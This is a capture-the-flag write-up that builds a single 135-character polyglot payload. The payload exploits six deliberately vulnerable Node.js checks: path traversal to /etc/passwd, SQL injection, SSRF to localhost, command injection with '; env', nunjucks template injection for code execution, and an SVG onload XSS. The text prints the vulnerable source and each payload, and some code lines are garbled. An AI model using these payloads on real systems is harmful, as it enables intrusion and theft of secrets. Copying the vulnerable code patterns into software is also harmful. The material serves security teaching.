This was my personal favourite challenge of the CTF where we had to create one single payload that exploits 6 different vulnerabilities at the same time while remaining under 137 characters. This was a battle of minimizing and coming up with clever tricks to combine the syntax of different exploits. Our task:

Pass all the checks to capture the flag!

Source Code

The challenge has 6 different functions all with their own vulnerability. The goal is to exploit every single function at the same time with a single payload:


...'/check', async (req, res) => {
    if (!req.body.payload) return res.status(400).json({ error: 'Payload parameter missing' });
    if (req.body.payload.length > 137) returnres.status(400).json({ error: 'Payload too big' });

    result = {}

    result['checkLFI'] = checkLFI(req.body.payload)
    if (!result['checkLFI']) return res.status(200).json(result)

    await checkSQLi(req.body.payload).then(_ => result['checkSQLi'] = true).catch(_ => result['checkSQLi'] = false)
    if (!result['checkSQLi']) return res.status(200).json(result)

    awaitcheckSSRF(req.body.payload).then(_ => result['checkSSRF'] = true).catch(_ => result['checkSSRF'] = false)
    if (!result['checkSSRF']) return res.status(200).json(result)

    await checkCommandInjection(req.body.payload).then(_ => result['checkCommandInjection'] = true).catch(_ => result['checkCommandInjection'] = false)
    if (!result['checkCommandInjection']) return res.status(200).json(result)

    result['checkSSTI'] = await checkSSTI(req.body.payload)
    if (!result['checkSSTI']) return res.status(200).json(result)

    result['checkXSS'] = await checkXSS(req.body.payload)
    if (!result['checkXSS']) return res.status(200).json(result)

    return res.json(result);

(check functions are defined below)

The vulnerabilities themselves are not very difficult, but combining them into one big payload can be tricky. With that, another check was also added to make sure your payload is not longer than 137 characters, otherwise, it is blocked. This gives the challenge a whole new level of difficulty as many different tricks need to be combined to reduce the length as much as possible.

Individual Challenges

Before optimizing, we will first exploit every vulnerability individually. To do this easily we can run the code ourselves while patching the /check endpoint to not return early, but always check every vulnerability:JavaScript'/check', async (req, res) => {
    if (!req.body.payload) return res.status(400).json({ error: 'Payload parameter missing' });

    result = {}
    result['checkLFI'] = checkLFI(req.body.payload)
    await checkSQLi(req.body.payload).then(_ => result['checkSQLi'] = true).catch(_ => result['checkSQLi'] = false)
    await checkSSRF(req.body.payload).then(_ => result['checkSSRF'] = true).catch(_ => result['checkSSRF'] = false)
    await checkCommandInjection(req.body.payload).then(_ => result['checkCommandInjection'] = true).catch(_ => result['checkCommandInjection'] = false)
    result['checkSSTI'] = await checkSSTI(req.body.payload)
    result['checkXSS'] = await checkXSS(req.body.payload)

    return res.json(result);We can run the application locally now after giving it some environment variables for the SQL Injection and Command Injection + SSTI functions:


ADMIN_PASSWORD=4dm1nP4ssw0rd COMMAND=C0mm4nd_1NJ3ct10N node 5-patched.js

Then we may test things locally (at http://localhost:3000) with as many debugging statements as we'd like.

1. Local File Inclusion (LFI)


const path = require('path');

// Goal: Read /etc/passwd
function checkLFI(payload) {
    const absolutePath = path.resolve(payload);
    return absolutePath === '/etc/passwd'

We need our input to path.resolve(...) to return '/etc/passwd', which is easily done by providing the absolute path '/etc/passwd' to it:


> path.resolve('/etc/passwd')

2. SQL Injection (SQLi)


const sqlite3 = require('sqlite3').verbose();

// Goal: Read the admin password
const db = new sqlite3.Database(':memory:');
db.serialize(() => {`CREATE TABLE IF NOT EXISTS users (username TEXT, password TEXT)`);`INSERT INTO users (username, password) VALUES ('admin', ?)`, [process.env.ADMIN_PASSWORD]);
function checkSQLi(payload) {
    return new Promise((resolve, reject) => {
        db.all('SELECT username FROM users WHERE password = "' + payload + '"', (err, rows) => {
            if (err) reject();
            else if(rows[0] && rows[0].username === "admin") resolve()
            else reject();

The result of the select query should include the admin, while their password is unknown. Because our payload is inserted raw into the query string, the data becomes part of the code and using a " double quote we can break out of the password string. Then we can rewrite the query to always return true, and the first user (admin) is always returned, satisfying the check:

Payload: " OR 1=1;-- -SELECT username FROM users WHERE password = "" OR 1=1;-- -"

3. Server-Side Request Forgery (SSRF)


const axios = require('axios');

// Goal: Read internalSecrets.txt
const localhostApp = express();
localhostApp.get('/internalSecrets.txt', (req, res) => {
    res.send('This is an internal secret!');
localhostApp.listen(3001, '');
async function checkSSRF(payload) {
    try {
        const response = await axios.get(payload);
        return === "This is an internal secret!";
    } catch (error) {
        throw error;

Another tiny app is started on localhost port 3001 with a /internalSecrets.txt path that we need to fetch. We can simply fetch the URL to get its contents:

4. Command Injectionconst { exec } = require('child_process');

// Goal: Read environment variable COMMAND
async function checkCommandInjection(payload) {
    return new Promise((resolve, reject) => {
        exec("ls /" + payload, (error, stdout, stderr) => {
            if (error) reject();
            else if (stdout.includes(process.env.COMMAND)) resolve()
            else reject();

This time our payload is appended to the "ls /" string and executed as a system command. This is very dangerous as it allows you to inject more commands by chaining them or using command substitution. The goal is for the output to contain the $COMMAND environment variable, so let's call env to output them all:

Payload: ; env


ls /; env

5. Server-Side Template Injection (SSTI)


const nunjucks = require('nunjucks');

// Goal: Read environment variable COMMAND
function checkSSTI(payload) {
    try {
        const templateString = "<h1>Welcome, " + payload + "</h1>"
        const renderedTemplate = nunjucks.renderString(templateString, { username: 'John' });
        if (renderedTemplate.includes(process.env.COMMAND)) return true;
        else return false;
    } catch (error) {
        return false;

Starting to get more tricky, we have our input inserted between some HTML tags, and then the server uses nunjucks to render this as a template string. If the output contains the $COMMAND environment variable again, we pass the check. As shown in this blog post, this templating engine is far from secure. By accessing any global function, and then its .constructor property, we can get the Function() constructor with which we can write our own function from a string. Executing this grants arbitrary code execution. We will use it to read theprocess.env.COMMAND variable just like the regular code does:


{{ range.constructor("return process.env.COMMAND")() }}

6. Cross-Site Scripting (XSS)


const puppeteer = require('puppeteer');

// Goal: Pop an alert!
async function checkXSS(payload) {
    const browser = await puppeteer.launch({ args: ['--no-sandbox'] });
    const page = await browser.newPage();const html = `<html><body><h1>Welcome ${payload}</h1></body></html>`;
    let alertTriggered = false;
    page.on('dialog', async dialog => {
        alertTriggered = true;
        await dialog.dismiss();
    await page.setContent(html);
    await new Promise(resolve => setTimeout(resolve, 1000));
    await browser.close();
    return alertTriggered;

We need to trigger an alert popup with our input inside the HTML. We can write arbitrary HTML tags, some that execute JavaScript and make the browser do all sorts of things. The shortest XSS payloads arealready pretty well-known, we will use the simplest that works for Chrome to trigger an alert:


<svg onload=alert()>

Putting it together

Now that we know how each challenge is exploitable, we can put them together. This is not as simple as just pasting them one after the other because some exploits will mess up the rest's syntax. Let's start with the Local File Inclusion:



To add anything to this we need to remember what path.resolve() does. It resolves any directory traversal sequences to their real full path, even if these in-between directories don't exist, meaning we can do something like this:



This allows us to add any other payload in place of "anything",the SQL Injection payload, for example. It contains no slashes so should be just like any other directory name. This also works for the SQL Injection because we comment out the directory traversal part:


" OR 1=1;-- -/../../etc/passwd

This gets us past two checks at the same time already. Let's continue with the Server-Side Request Forgery. Our payload needs to be a valid URL that axios can fetch, and its path should be /internalSecrets.txt. To place more data after this URL, we can end it with a ? question mark to start a query string that the server will ignore. By putting it before the SQL Injection " double quote, it just becomes part of the string, and thus valid syntax. Note that this does add some more slashes and thus fake directories that need tobe traversed back:

Payload" OR 1=1;-- -/../../../../etc/passwd

That's the third check added. Now for Command Injection we need to make sure our payload has valid syntax because an error in the command will not count. We still have some room between the SSRF query string and the SQL Injection quote to put our ;env, and then similar to SQL Injection, we can comment out the rest using #:

Payload;env #" OR 1=1;-- -/../../../../etc/passwd

We're starting to get somewhere. For the fifth check, Server-Side Template Injection, we don't have to think much. Because the templating language only looks for {{...}} anywhere in our input, we don't need to worry about syntax errors. We will just include our payload from before in between the Command Injection comment and the SQL Injection quote:

Payload;env #{{ range.constructor("return process.env.COMMAND")() }}" OR 1=1;-- -/../../../../etc/passwd

... while this works, the SQL Injection seems to have broken again. Checking the payload wecan notice that it uses double quotes, which our SSTI payload also uses. The SQL Injection genuinely requires it to break out of the string, but the SSTI can just as well use ' single quotes instead:;env #{{ range.constructor('return process.env.COMMAND')() }}" OR 1=1;-- -/../../../../etc/passwd

Now for the final piece, Cross-Site Scripting, which is also pretty simple. We can just insert it anywhere before or after the template injection:

HTML;env #<svg onload=alert()>{{ range.constructor('return process.env.COMMAND')() }}" OR 1=1;-- -/../../../../etc/passwd

The final response will now be:



Perfect! It works locally. But when we throw it over to the remote instance, we find that our payload is too big:

Payload too big

The maximum length is 137, while our payload as it stands right now is 159 characters. Not too far away, but still definitely some way to go until it fits under that barrier.Optimizing the length

We will now focus onoptimizing our working payload by removing unnecessary parts and coming up with clever tricks that shorten the payload while still exploiting the check.

Something easy we can start with is removing unnecessary whitespace, and the extra characters in our SQL Injection payload, as comments only need -- to start:

Payload;env #<svg onload=alert()>{{range.constructor('return process.env.COMMAND')()}}" OR 1=1--/../../../../etc/passwd

We shaved off 5 resulting in a 154 characters total. Another big optimization we can make is in the SSRF part, which is a full URL at this point. As a first, we can omit the protocol because a URL starting with // will be assumed to be HTTP, as well as the address. As shown here, addresses may omit zeroes and still resolve to localhost. This goes as far as simply writing 0 which expands to, resolving to localhost.

For more details on why this works, check out the documentation which explains that a single value will be interpreted as a 32-bit value that directly represents the 4 bytes that make up an IP address. 0 thus becomes \x00\x00\x00\x00, or


//0:3001/internalSecrets.txt?;env #<svg onload=alert()>{{range.constructor('return process.env.COMMAND')()}}" OR 1=1--/../../../../etc/passwd

This helped a lot, removing 13 and bringing us to 141 characters. We're getting close now, and there is another largething we should look at, the directory traversal. In the previous payload, we needed to traverse back lots of directories toget out of the current one. But after looking closely at our latest payload, it now starts with a / character, meaning this is technically an absolute path. This allows us to get away with much less ../ sequences because we already start at the root:


//0:3001/internalSecrets.txt?;env #<svg onload=alert()>{{range.constructor('return process.env.COMMAND')()}}" OR 1=1--/../../etc/passwd

There we go, after removing two of these sequences that weren't needed anymore, we have a payload of 135 characters, just under the 137 limit. Giving this payload to the remote now solves the challenge!


